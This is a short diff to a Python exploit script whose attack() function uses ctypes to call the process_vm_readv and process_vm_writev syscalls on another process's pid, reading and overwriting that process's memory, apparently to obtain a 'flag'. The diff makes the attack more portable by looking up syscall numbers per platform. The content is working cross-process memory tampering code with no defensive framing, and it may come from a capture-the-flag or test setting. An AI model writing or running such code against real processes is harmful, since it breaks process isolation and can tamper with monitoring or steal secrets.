@@ -14,6 +14,7 @@ import os
 import sys
 
 libc = ctypes.CDLL(None, use_errno=True)
+nr = context["nr"]
 
 
 class Vector(ctypes.Structure):
@@ -33,7 +34,8 @@ def attack():
             return context["flag"]
         except (AttributeError, OSError, RuntimeError):
             pass
-        for number, place in ((310, runtime), (311, ctypes.addressof(target))):
+        for number, place in ((nr["process_vm_readv"], runtime),
+                              (nr["process_vm_writev"], ctypes.addressof(target))):
             local, remote = Vector(ctypes.addressof(word), 16), Vector(place, 16)
             vectors = (ctypes.byref(local), one, ctypes.byref(remote), one)
             if libc.syscall(number, pid, *vectors, zero) > 0:
